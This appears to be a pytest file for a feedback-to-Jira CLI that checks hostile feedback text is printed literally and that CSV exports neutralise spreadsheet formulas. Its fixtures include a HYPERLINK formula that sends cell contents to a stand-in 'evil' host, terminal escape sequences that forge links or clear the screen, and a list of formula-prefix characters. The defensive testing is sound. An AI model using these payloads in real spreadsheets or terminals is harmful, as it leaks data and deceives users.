"""Nothing from feedback executes (issue 19): not in a terminal, not in a spreadsheet.

Feedback text and accounts holding Rich markup (``[/bold]``, ``[/]``, ``[link=…]``) and terminal
escape sequences are printed literally by every command that shows them, even piped (the
CliRunner is a pipe); CSV exports neutralise formula prefixes (OWASP, full-width forms too) and
``links import`` undoes that, so an untouched export imports as "nothing changed".
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from conftest import cli, run_json

from demandsync.cli.links import export_links, import_links
from demandsync.cli.main import print_report
from demandsync.domain import FeedbackItem, Quarantined
from demandsync.sandbox.jira import JiraSandbox
from demandsync.sync.pull import SourceReport
from demandsync.sync.run import RunReport
from demandsync.sync.store.store import Store

HOSTILE_TEXT = ('=HYPERLINK("http://evil/?"&A1) sso [/bold] [/] [link=http://evil]x[/link] '
                "\x1b]8;;http://evil\x07click\x1b]8;;\x07 \x1b[31mred\x1b[0m \x1b[2J")
HOSTILE_ACCOUNT = "[/] Acme \x1b[1m"
WIDE_ACCOUNT = "\uff1dSUM(1)"  # full-width '='


def add_hostile_rows(config: Path) -> None:
    notes = config.parent / "exports" / "sales-call-notes.csv"
    text = HOSTILE_TEXT.replace('"', '""')
    notes.write_text(notes.read_text() + f'2026-11-21,"{HOSTILE_ACCOUNT}",eve@evil.example,pro,"{text}",PROD-1\n'
                     f"2026-11-22,{WIDE_ACCOUNT},fw@wide.example,pro,SSO now,PROD-1\n")


def assert_literal(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output and "\x9b" not in output
    assert "[/bold]" in output and "[link=http://evil]" in output


def test_every_command_prints_hostile_text_literally(sandbox: JiraSandbox, config: Path, store_url: str) -> None:
    add_hostile_rows(config)
    run_json(config)
    store = Store.open(store_url)
    store.quarantine([Quarantined("sales-notes", "row [/] 9", f"bad value {HOSTILE_TEXT}", "")], run_id=None)
    store.record_pull("sales-notes", "csv", cursor=None, error=f"ValueError: {HOSTILE_TEXT}")
    store.close()
    c = str(config)
    for args in (("explain", "PROD-1"), ("explain", "PROD-1", "--state", "all"), ("suggest", "PROD-1", "-n", "50"),
                 ("status",), ("quarantine",)):
        code, stdout, stderr = cli(*args, "--config", c)
        assert code == 0, (args, stderr)
        assert_literal(stdout)
    code, stdout, _ = cli("requesters", "PROD-1", "--config", c)
    assert code == 0 and "\x1b" not in stdout and "[/]" in stdout


def test_review_prints_hostile_text_literally(sandbox: JiraSandbox, config: Path, store_url: str) -> None:
    add_hostile_rows(config)
    run_json(config)
    store = Store.open(store_url)
    item = store.find_item("sales-notes", next(r["item_id"] for r in store.link_rows(("accepted",))
                                                 if "HYPERLINK" in r["text"]))
    assert item is not None
    store.decide_link(item, "PROD-2", "suggested")
    store.close()
    code, stdout, _ = cli("review", "--config", str(config), input="q\n")
    assert code == 0
    assert_literal(stdout)


def test_the_run_table_prints_hostile_errors_literally(capsys: object) -> None:
    report = RunReport(run_id=7, sources={"s[/]": SourceReport(pulled=1, error=f"ValueError: {HOSTILE_TEXT}")})
    report.errors.append({"stage": "summary", "epic": "PROD-[/]1", "error": HOSTILE_TEXT})
    print_report(report)
    out = capsys.readouterr()  # type: ignore[attr-defined]
    assert "\x1b" not in out.out + out.err
    assert "[/]" in out.out and "[link=http://evil]" in out.err


def test_csv_exports_neutralise_formulas(sandbox: JiraSandbox, config: Path) -> None:
    add_hostile_rows(config)
    run_json(config)
    code, stdout, _ = cli("links", "export", "--state", "accepted", "--config", str(config))
    assert code == 0
    texts = [row["text"] for row in csv.DictReader(io.StringIO(stdout))]
    assert "'" + HOSTILE_TEXT in texts
    assert not any(t[:1] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" for t in texts)
    code, stdout, _ = cli("requesters", "PROD-1", "--format", "csv", "--config", str(config))
    accounts = [row["account"] for row in csv.DictReader(io.StringIO(stdout))]
    assert "'" + WIDE_ACCOUNT in accounts and WIDE_ACCOUNT not in accounts


def test_links_import_undoes_the_guard_round_trip(store: Store, tmp_path: Path) -> None:
    from demandsync.domain import Epic

    store.save_epics([Epic(key="PROD-1", id="1", summary="SSO")])
    items = [FeedbackItem(source="s", external_id=ext, text=text)
             for ext, text in (("-42", "=1+1"), ("+7", "@SUM(A1)"), ("'q", "'quoted"), ("＝x", "plain"))]
    store.upsert_items(items, {})
    for ext in ("-42", "+7", "'q", "＝x"):
        item = store.find_item("s", ext)
        assert item is not None
        store.decide_link(item, "PROD-1", "accepted")
    exported = export_links(store, "accepted", "csv")
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert sorted(r["item_id"] for r in rows) == sorted(["'-42", "'+7", "''q", "'＝x"])
    path = tmp_path / "links.csv"
    path.write_text(exported)
    assert import_links(store, path) == (0, 4, [])  # untouched: nothing changes, every row found
    path.write_text(exported.replace(",accepted,", ",rejected,"))
    assert import_links(store, path) == (4, 0, [])
    item = store.find_item("s", "-42")
    assert item is not None and (store.link_of(item, "PROD-1") or {})["state"] == "rejected"
